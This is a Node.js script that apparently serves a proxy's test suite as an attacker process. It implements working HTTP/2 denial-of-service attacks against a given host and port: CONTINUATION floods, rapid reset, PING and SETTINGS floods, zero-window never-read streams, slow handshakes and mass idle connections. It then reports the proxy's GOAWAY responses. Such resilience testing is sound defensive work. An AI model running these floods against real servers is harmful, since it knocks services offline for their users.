// An attacker of the proxy, run as a process of its own so that its loops do not slow the
// healthy client the attack tests measure: `node attacker.mjs <attack> <host:port> <ms>`.
// Prints one JSON line with what it did and saw (connections, frames sent, GOAWAY codes).
import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { HeaderBlock, HpackEncoder } from '@switchyard/h2';

const [attack, address, durationArg] = process.argv.slice(2);
const [host, port] = address.split(':');
const until = Date.now() + Number(durationArg);
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const report = { attack, connections: 0, framesSent: 0, goaways: {} };

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

function request(encoder, path = '/switchyard.testing.v1.TestService/Unary') {
  return Buffer.from(
    encoder.encode(
      new HeaderBlock([
        ':method',
        'POST',
        ':scheme',
        'http',
        ':path',
        path,
        ':authority',
        address,
        'content-type',
        'application/grpc',
        'te',
        'trailers',
      ]),
    ),
  );
}

/** A connection that has sent the preface and SETTINGS; records the GOAWAY that ends it. */
async function open({ settings = Buffer.alloc(0), read = true } = {}) {
  const socket = connect(Number(port), host);
  socket.on('error', () => {});
  await once(socket, 'connect').catch(() => {});
  report.connections++;
  let pending = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    if (!read) return;
    pending = Buffer.concat([pending, chunk]);
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3);
      if (pending.length < 9 + length) break;
      if (pending[3] === 7) {
        const code = pending.readUInt32BE(9 + 4);
        report.goaways[code] = (report.goaways[code] ?? 0) + 1;
      }
      pending = pending.subarray(9 + length);
    }
  });
  if (!read) socket.pause();
  socket.write(Buffer.concat([PREFACE, frame(4, 0, 0, settings)]));
  return socket;
}

/** Writes `make()` batches while the socket is open and time is left, respecting backpressure. */
async function flood(socket, make) {
  while (!socket.destroyed && Date.now() < until) {
    const { bytes, frames } = make();
    report.framesSent += frames;
    if (!socket.write(bytes)) {
      // once() rejects on 'error' (EPIPE when the proxy closed the connection): that ends it too.
      await Promise.race([once(socket, 'drain'), once(socket, 'close'), sleep(200)]).catch(
        () => {},
      );
    }
  }
}

const BATCH = 500;

async function continuation(payloadLength) {
  while (Date.now() < until) {
    const socket = await open();
    const encoder = new HpackEncoder();
    const block = request(encoder);
    // HEADERS without END_HEADERS, then CONTINUATION frames that never end the block.
    socket.write(frame(1, 0, 1, block.subarray(0, 8)));
    const one = frame(9, 0, 1, Buffer.alloc(payloadLength, 0x41));
    const batch = Buffer.concat(Array.from({ length: BATCH }, () => one));
    await flood(socket, () => ({ bytes: batch, frames: BATCH }));
    socket.destroy();
  }
}

async function rapidReset(reconnect) {
  do {
    const socket = await open();
    const encoder = new HpackEncoder();
    let id = 1;
    await flood(socket, () => {
      const frames = [];
      for (let i = 0; i < 50; i++, id += 2) {
        frames.push(
          frame(1, 0x4, id, request(encoder)),
          frame(3, 0, id, Buffer.from([0, 0, 0, 8])),
        );
      }
      return { bytes: Buffer.concat(frames), frames: frames.length };
    });
    socket.destroy();
  } while (reconnect && Date.now() < until);
}

async function control(type) {
  while (Date.now() < until) {
    // It never reads: the ACKs it is owed pile up on the proxy's side.
    const socket = await open({ read: false });
    const one = type === 6 ? frame(6, 0, 0, Buffer.alloc(8, 7)) : frame(4, 0, 0);
    const batch = Buffer.concat(Array.from({ length: BATCH }, () => one));
    await flood(socket, () => ({ bytes: batch, frames: BATCH }));
    socket.destroy();
  }
}

async function neverRead() {
  // Asks for a long, large response stream with a window of 0 and does not read the socket.
  const window0 = Buffer.alloc(6);
  window0.writeUInt16BE(4, 0);
  window0.writeUInt32BE(0, 2);
  const sockets = [];
  for (let i = 0; i < 4; i++) {
    const socket = await open({ settings: window0, read: false });
    const encoder = new HpackEncoder();
    // TestRequest { response_size (5): 65536, response_count (6): 1000 }, framed.
    const message = Buffer.from([0x28, 0x80, 0x80, 0x04, 0x30, 0xe8, 0x07]);
    const prefix = Buffer.alloc(5);
    prefix.writeUInt32BE(message.length, 1);
    for (let stream = 1; stream <= 19; stream += 2) {
      socket.write(
        frame(1, 0x4, stream, request(encoder, '/switchyard.testing.v1.TestService/ServerStream')),
      );
      socket.write(frame(0, 0x1, stream, Buffer.concat([prefix, message])));
      report.framesSent += 2;
    }
    sockets.push(socket);
  }
  await sleep(Math.max(0, until - Date.now()));
  for (const socket of sockets) socket.destroy();
}

async function slowHandshakes(count) {
  const sockets = [];
  for (let i = 0; i < count && Date.now() < until; i++) {
    const socket = connect(Number(port), host);
    socket.on('error', () => {});
    // One byte of the preface, then nothing: the handshake timeout must end it.
    socket.on('connect', () => socket.write(PREFACE.subarray(0, 1)));
    socket.on('close', () => {
      report.closedByProxy = (report.closedByProxy ?? 0) + 1;
    });
    sockets.push(socket);
    report.connections++;
    if (i % 200 === 199) await sleep(20);
  }
  await sleep(Math.max(0, until - Date.now()));
  for (const socket of sockets) socket.destroy();
}

async function idleConnections(count) {
  const sockets = [];
  for (let i = 0; i < count; i++) {
    sockets.push(open({ read: false }));
    if (i % 500 === 499) await Promise.all(sockets.slice(-500));
  }
  const opened = await Promise.all(sockets);
  await sleep(Math.max(0, until - Date.now()));
  for (const socket of opened) socket.destroy();
}

const attacks = {
  'continuation-empty': () => continuation(0),
  'continuation-1byte': () => continuation(1),
  'rapid-reset': () => rapidReset(false),
  'rapid-reset-reconnecting': () => rapidReset(true),
  'ping-flood': () => control(6),
  'settings-flood': () => control(4),
  'never-read': () => neverRead(),
  'slow-handshakes': () => slowHandshakes(2_000),
  'idle-connections': () => idleConnections(10_000),
};

await attacks[attack]();
process.stdout.write(`${JSON.stringify(report)}\n`);
process.exit(0);
